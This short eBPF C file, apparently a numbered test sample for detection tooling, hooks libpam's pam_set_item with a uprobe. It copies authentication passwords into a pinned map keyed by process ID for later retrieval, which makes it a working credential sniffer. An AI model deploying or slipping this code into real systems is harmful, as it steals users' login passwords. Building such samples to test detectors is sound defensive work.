// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T10: credentials gathered in a pinned map, to be fetched later; the older one-argument helper is used.
#include "sample.h"

LICENSE;

struct login {
	char password[80];
};
struct {
	__uint(type, BPF_MAP_TYPE_LRU_HASH);
	__uint(max_entries, 1024);
	__type(key, u32);
	__type(value, struct login);
	__uint(pinning, LIBBPF_PIN_BY_NAME);
} bw_sample_logins SEC(".maps");

SEC("uprobe/libpam.so.0:pam_set_item")
int pam_set_item(struct pt_regs *ctx)
{
	struct login l = {};
	u32 pid = tgid();

	if (PT_REGS_PARM2(ctx) != 6)
		return 0;
	bpf_probe_read_str(l.password, sizeof(l.password), (void *)PT_REGS_PARM3(ctx));
	bpf_map_update_elem(&bw_sample_logins, &pid, &l, BPF_ANY);
	return 0;
}
